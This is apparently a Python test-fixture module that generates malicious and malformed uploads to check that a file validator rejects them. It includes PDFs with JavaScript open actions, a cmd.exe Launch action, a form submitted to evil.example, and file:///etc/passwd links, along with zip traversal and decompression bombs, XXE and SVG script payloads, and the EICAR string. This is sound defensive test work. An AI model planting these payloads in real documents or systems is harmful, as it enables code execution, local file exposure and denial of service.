"""Files that mean harm, and files that are only broken: each made here, so that none lies in the repository."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream
from PIL import Image

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<html><script>alert(1)</script></html>"


def pdf(pages=1, change=None):
    """A PDF of empty pages; `change` may do anything to it before it is written."""
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page()
    if change:
        change(document)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def png(width=4, height=3, *, chunks=(), bytes_a_pixel=3, colour=2):
    """A black PNG, packed tight; `chunks` stand after the header."""
    packer, row = zlib.compressobj(9), bytes(1 + width * bytes_a_pixel)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(chunks) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def chunk(kind, data):
    """One chunk of a PNG with the right check sum."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def picture(form, size=(6, 4), **options):
    """A small picture of any form Pillow writes."""
    out = io.BytesIO()
    Image.new("RGB", size, "teal").save(out, form, **options)
    return out.getvalue()


def jpeg(size=(6, 4), **options):
    return picture("JPEG", size, **options)


def taken_at_home(orientation=6, comment=b"<script>alert(1)</script>"):
    """A photo that says where it was taken, carries HTML as comment, and was taken with the camera turned."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010E] = "<img src=x onerror=alert(1)>"
    exif[0x9286] = comment
    place = exif.get_ifd(0x8825)
    place[1], place[2] = "N", (48.0, 12.0, 30.0)
    return jpeg(exif=exif, comment=comment)


def archive(name="inside.txt", data=b"hello", folders=0):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("../" * folders + name, data)
    return out.getvalue()


def nested_archives(deep=10):
    data = EICAR
    for _ in range(deep):
        data = archive("again.zip", data)
    return data


def document_of_a_word_processor():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr("[Content_Types].xml", '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>')
        packed.writestr("word/vbaProject.bin", b"macro")
    return out.getvalue()


def moving_png():
    out = io.BytesIO()
    frames = [Image.new("RGB", (4, 4), colour) for colour in ("red", "blue", "green")]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def _at_the_root(**keys):
    def change(document):
        for key, value in keys.items():
            document.Root[f"/{key}"] = value(document) if callable(value) else value

    return pdf(change=change)


def _on_the_page(**action):
    def change(document):
        link = Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=Array([0, 0, 9, 9]),
            A=Dictionary(**action),
        )
        document.pages[0].Annots = Array([link])

    return pdf(change=change)


def carrying(data=b"MZ", name="evil.exe"):
    def change(document):
        document.attachments[name] = pikepdf.AttachedFileSpec(document, data, filename=name)

    return pdf(change=change)


def locked(password="secret"):
    document = pikepdf.new()
    document.add_blank_page()
    out = io.BytesIO()
    document.save(out, encryption=pikepdf.Encryption(owner="owner", user=password))
    return out.getvalue()


def unpacks_to(size):
    """A page painted with a stream that unpacks to `size` bytes."""

    def change(document):
        packer, piece = zlib.compressobj(9), bytes(1_000_000)
        data = b"".join(packer.compress(piece) for _ in range(size // len(piece))) + packer.flush()
        stream = Stream(document, b"")
        stream.write(data, filter=Name.FlateDecode)
        document.pages[0].Contents = stream

    return pdf(change=change)


def hidden_in_an_object_stream(body):
    """A PDF by hand whose catalog stands in a packed stream of objects."""
    packed = zlib.compress(b"1 0 " + body, 9)
    parts, places = [b"%PDF-1.5\n"], {}

    def add(number, data):
        places[number] = sum(map(len, parts))
        parts.append(b"%d 0 obj\n" % number + data + b"\nendobj\n")

    add(2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>")
    add(3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>")
    head = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    add(4, head + packed + b"\nendstream")
    here = sum(map(len, parts))
    rows = [(0, 0, 0), (2, 4, 0), *((1, places[number], 0) for number in (2, 3, 4)), (1, here, 0)]
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    head = b"5 0 obj\n<</Type/XRef/Size 6/W[1 4 1]/Root 1 0 R/Length %d>>stream\n" % len(table)
    parts.append(head + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % here)
    return b"".join(parts)


def pages_that_hold_themselves():
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Count 1/Kids[2 0 R]>>endobj\n"
        b"trailer<</Root 1 0 R/Size 3>>\n%%EOF"
    )


def many_pages(count):
    """A tree of very many pages in little space."""
    document = pikepdf.new()
    document.add_blank_page()
    tree = document.Root.Pages
    page = Dictionary(Type=Name.Page, Parent=tree, MediaBox=Array([0, 0, 9, 9]), Resources=Dictionary())
    tree.Kids = Array([document.make_indirect(Dictionary(page)) for _ in range(count)])
    tree.Count = count
    out = io.BytesIO()
    document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def deeply_nested(depth):
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/X " + b"[" * depth + b"]" * depth + b">>endobj\n"
        b"2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R/Size 4>>\n%%EOF"
    )


def _script(**more):
    return Dictionary(S=Name.JavaScript, JS="app.alert(1)", **more)


#: PDF documents that act or carry something, and why each is refused.
ACTIVE = {
    "a script on opening": (lambda: _at_the_root(OpenAction=_script()), "script_inside"),
    "a script by name": (
        lambda: _at_the_root(Names=Dictionary(JavaScript=Dictionary(Names=Array(["x", _script()])))),
        "script_inside",
    ),
    "a script in a stream": (
        lambda: _at_the_root(OpenAction=lambda one: Dictionary(S=Name.JavaScript, JS=Stream(one, b"x"))),
        "script_inside",
    ),
    "a script behind another action": (
        lambda: _on_the_page(S=Name.GoTo, D=Array([]), Next=_script()),
        "script_inside",
    ),
    "a script in an object stream": (
        lambda: hidden_in_an_object_stream(
            b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/#4aS(x)>>>>"
        ),
        "script_inside",
    ),
    "an action on every page": (
        lambda: pdf(change=lambda one: one.pages[0].__setattr__("AA", Dictionary(O=Dictionary(S=Name.Named)))),
        "action_inside",
    ),
    "starting a program": (lambda: _on_the_page(S=Name.Launch, F="cmd.exe"), "action_inside"),
    "sending a form": (lambda: _on_the_page(S=Name.SubmitForm, F="http://evil.example"), "action_inside"),
    "taking data in": (lambda: _on_the_page(S=Name.ImportData, F="x.fdf"), "action_inside"),
    "leading to another file": (lambda: _on_the_page(S=Name.GoToR, F="other.pdf", D=0), "action_inside"),
    "an address on this computer": (
        lambda: _on_the_page(S=Name.URI, URI="file:///etc/passwd"), "action_inside",
    ),
    "an address with a hidden scheme": (
        lambda: _on_the_page(S=Name.URI, URI=" java\nscript:alert(1)"), "action_inside",
    ),
    "an address of a machine in the house": (
        lambda: _on_the_page(S=Name.URI, URI="\\\\server\\share"), "action_inside",
    ),
    "a base for addresses": (
        lambda: _at_the_root(URI=Dictionary(Base="file:///")), "action_inside",
    ),
    "a program attached": (carrying, "file_inside"),
    "a virus attached": (lambda: carrying(EICAR, "eicar.com"), "file_inside"),
    "an active form": (
        lambda: _at_the_root(AcroForm=lambda one: Dictionary(Fields=Array([]), XFA=Stream(one, b"<xdp/>"))),
        "form_inside",
    ),
    "rich media": (
        lambda: pdf(change=lambda one: one.pages[0].__setattr__(
            "Annots", Array([Dictionary(Type=Name.Annot, Subtype=Name.RichMedia)]))),
        "media_inside",
    ),
    "content that lies elsewhere": (
        lambda: pdf(change=lambda one: one.pages[0].__setattr__(
            "Contents", Stream(one, b"", F=Dictionary(FS=Name.URL, F="http://evil.example")))),
        "file_inside",
    ),
    "a password": (locked, "locked_document"),
    "a lock without a password": (lambda: locked(""), "locked_document"),
}  # fmt: skip

#: Files that cannot be read, are something else, or are too much; and why each is refused.
BROKEN = {
    "nothing": (lambda: b"", "empty_file"),
    "a page of the web": (lambda: SCRIPT, "unknown_kind"),
    "a page of the web before a PDF": (lambda: SCRIPT + pdf(), "unknown_kind"),
    "a vector drawing": (
        lambda: (
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>'
            b'<foreignObject/><use href="http://evil.example/x.svg#a"/></svg>'
        ),
        "unknown_kind",
    ),
    "a moving GIF with a script": (lambda: picture("GIF") + b"*/alert(1)/*", "other_picture"),
    "a TIFF": (lambda: picture("TIFF"), "other_picture"),
    "a WebP": (lambda: picture("WEBP"), "other_picture"),
    "a HEIC": (lambda: b"\0\0\0\x18ftypheic" + bytes(100), "other_picture"),
    "a BMP": (lambda: picture("BMP"), "other_picture"),
    "a virus": (lambda: EICAR, "unknown_kind"),
    "a virus in an archive": (lambda: archive("eicar.com", EICAR), "not_a_proof"),
    "an archive that leads outside": (lambda: archive(folders=9), "not_a_proof"),
    "an archive that unpacks to much": (lambda: archive("zeros", bytes(30_000_000)), "not_a_proof"),
    "archives in archives": (nested_archives, "not_a_proof"),
    "a text with macros": (document_of_a_word_processor, "not_a_proof"),
    "a wrong check sum": (lambda: png()[:-20] + bytes([png()[-20] ^ 1]) + png()[-19:], "broken_file"),
    "a picture cut off": (lambda: png(64, 64)[:-30], "broken_file"),
    "a photo cut off": (lambda: jpeg((640, 480))[:400], "broken_file"),
    "two headers": (
        lambda: png(chunks=[chunk(b"IHDR", struct.pack(">IIBBBBB", 9, 9, 8, 2, 0, 0, 0))]),
        "broken_file",
    ),
    "no end": (lambda: png()[:-12], "broken_file"),
    "a size that is not there": (lambda: png(0, 0), "broken_file"),
    "a header and nothing else": (lambda: b"\xff\xd8\xff\xe0", "broken_file"),
    "a moving PNG": (moving_png, "moving_picture"),
    "very many pixels": (lambda: png(13_000, 13_000, bytes_a_pixel=1, colour=0), "too_many_pixels"),
    "very many more": (lambda: png(20_000, 20_000, bytes_a_pixel=1, colour=0), "too_many_pixels"),
    "a photo of very many scans": (lambda: jpeg() + b"\xff\xda" * 200, "too_many_pixels"),
    "no document": (lambda: b"%PDF-1.7\nnothing", "broken_file"),
    "half a document": (lambda: pdf()[:200], "broken_file"),
    "pages that hold themselves": (pages_that_hold_themselves, "broken_file"),
    "201 pages": (lambda: pdf(201), "too_many_pages"),
    "100,000 pages": (lambda: many_pages(100_000), "too_many_pages"),
    "objects that unpack to much": (
        lambda: hidden_in_an_object_stream(b"<</Type/Catalog/Pages 2 0 R>>" + b" " * 200_000_000),
        "broken_file",
    ),
    "nested without end": (lambda: deeply_nested(50_000), "broken_file"),
}
